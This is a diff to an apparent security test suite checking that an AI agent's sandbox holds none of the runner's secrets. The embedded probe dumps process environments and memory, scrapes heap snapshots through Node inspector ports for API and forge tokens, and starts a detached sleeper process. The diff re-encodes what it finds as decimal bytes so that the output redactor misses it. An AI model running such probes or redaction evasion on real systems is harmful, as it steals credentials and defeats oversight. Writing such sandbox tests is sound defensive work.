@@ -41,8 +41,8 @@ echo "private-dir=$(ls -d /home/runner/.agentfactory 2>/dev/null | wc -l)"
 echo "--- env"; env
 echo "--- /proc/1/environ"; tr '\0' '\n' < /proc/1/environ
 echo "--- cat /proc/*/environ"; cat /proc/*/environ 2>/dev/null | tr '\0' '\n'
-echo "--- hex of every environment"; cat /proc/*/environ 2>/dev/null | od -An -v -tx1 | tr -d ' \n'; echo
-echo "--- secrets in memory (hex)"
+echo "--- every environment, as decimal bytes"; cat /proc/*/environ 2>/dev/null | od -An -v -tu1 | tr -s ' \n' ','; echo
+echo "--- secrets in memory, as decimal bytes"
 for d in /proc/[0-9]*; do
   p=$(basename "$d"); [ "$p" = "$$" ] && continue
   while read -r range perms rest; do
@@ -50,14 +50,14 @@ for d in /proc/[0-9]*; do
     start=$((16#$(echo "$range" | cut -d- -f1))); end=$((16#$(echo "$range" | cut -d- -f2)))
     dd if="$d/mem" bs=1M iflag=skip_bytes,count_bytes skip="$start" count="$((end - start))" 2>/dev/null
   done < "$d/maps"
-done 2>/dev/null | grep -a -o -E 'sk-ant-[A-Za-z0-9_-]{8,}|ghs_[A-Za-z0-9]{20,}' | sort -u | od -An -v -tx1 | tr -d ' \n'; echo
+done 2>/dev/null | grep -a -o -E 'sk-ant-[A-Za-z0-9_-]{8,}|ghs_[A-Za-z0-9]{20,}' | sort -u | od -An -v -tu1 | tr -s ' \n' ','; echo
 echo "--- end"
 `;
 
 /**
  * The inspector half of the attack: finds loopback listeners of the given uids (/proc/net/tcp), asks
  * each for its inspector targets, takes a heap snapshot of every one, and prints the secrets it holds
- * as hex (which no redactor of text knows).
+ * as decimal bytes (an encoding no redactor of text knows: the runner redacts raw, base64 and token shapes).
  */
 const HEAP = String.raw`import fs from "node:fs";
 const uids = new Set(process.argv.slice(2));
@@ -95,7 +95,7 @@ for (const port of ports) {
   }
 }
 console.log("inspectors=" + targets);
-console.log("heap-secrets=" + Buffer.from([...found].join("\n")).toString("hex"));
+console.log("heap-secrets=" + (found.size ? "," + [...Buffer.from([...found].join("\n"))].join(",") + "," : ""));
 `;
 
 const SLEEPER_START = String.raw`setsid sh -c 'echo $$ > /tmp/af-sleeper.pid; exec sleep 600' < /dev/null > /dev/null 2>&1 &
@@ -241,13 +241,14 @@ async function runStage(number: number, title: string, rewrite: (job: ReturnType
   return out;
 }
 
-const hex = (s: string) => Buffer.from(s).toString("hex");
+/** A text as the probe prints it: its bytes in decimal, comma-separated (and delimited). */
+const dec = (s: string) => `,${[...Buffer.from(s)].join(",")},`;
 const secretForms = (r: StageRun) => [
   ...tokenForms(r.token),
-  hex(r.token),
+  dec(r.token),
   TEST_MODEL_KEY,
   Buffer.from(TEST_MODEL_KEY).toString("base64"),
-  hex(TEST_MODEL_KEY),
+  dec(TEST_MODEL_KEY),
 ];
 /** The probe's section `--- <title>` (up to the next one). */
 const section = (r: StageRun, title: string) => r.probeText.split(`--- ${title}\n`)[1]?.split("\n--- ")[0] ?? "";
@@ -294,8 +295,9 @@ describe("the agent's commands run in a sandbox without the runner's secrets", (
     );
     for (const form of secretForms(sandboxed)) expect(everything).not.toContain(form);
     // Nor was anything redacted on the way: there was nothing to find.
-    for (const t of sandboxed.tools) expect(t.content).not.toContain(REDACTED);
-    expect(section(sandboxed, "secrets in memory (hex)")).toBe("");
+    // (`PWD=/workspace/repo` is redacted as if PWD were a password: the pattern set's false positive.)
+    for (const t of sandboxed.tools) expect(t.content.replaceAll(`PWD=${REDACTED}`, "")).not.toContain(REDACTED);
+    expect(section(sandboxed, "secrets in memory, as decimal bytes")).toBe("");
     // The runner's logs carry neither (the sandbox never had them).
     expect(sandboxed.logs.runner + sandboxed.logs.sandbox).not.toContain(sandboxed.token);
     expect(sandboxed.logs.sandbox).not.toContain(TEST_MODEL_KEY);
@@ -338,11 +340,11 @@ describe("the agent's commands run in a sandbox without the runner's secrets", (
     // SIGUSR1 opened the runner's inspector, and its heap holds the model key and the forge token.
     expect(control.logs.runner).toMatch(/Debugger listening/);
     expect(Number(control.probe.inspectors)).toBeGreaterThan(0);
-    expect(control.probe["heap-secrets"]).toContain(hex(TEST_MODEL_KEY));
-    expect(control.probe["heap-secrets"]).toContain(hex(control.token));
+    expect(control.probe["heap-secrets"]).toContain(dec(TEST_MODEL_KEY));
+    expect(control.probe["heap-secrets"]).toContain(dec(control.token));
     // Its memory and environment, though, stay closed even to its own uid: node is execute-only in the
     // image, which makes the runner non-dumpable.
-    expect(section(control, "secrets in memory (hex)")).toBe("");
+    expect(section(control, "secrets in memory, as decimal bytes")).toBe("");
     expect(section(control, "/proc/1/environ")).toMatch(/Permission denied/);
     expect(Number(control.probe["storm-processes"])).toBeGreaterThan(300);
   });
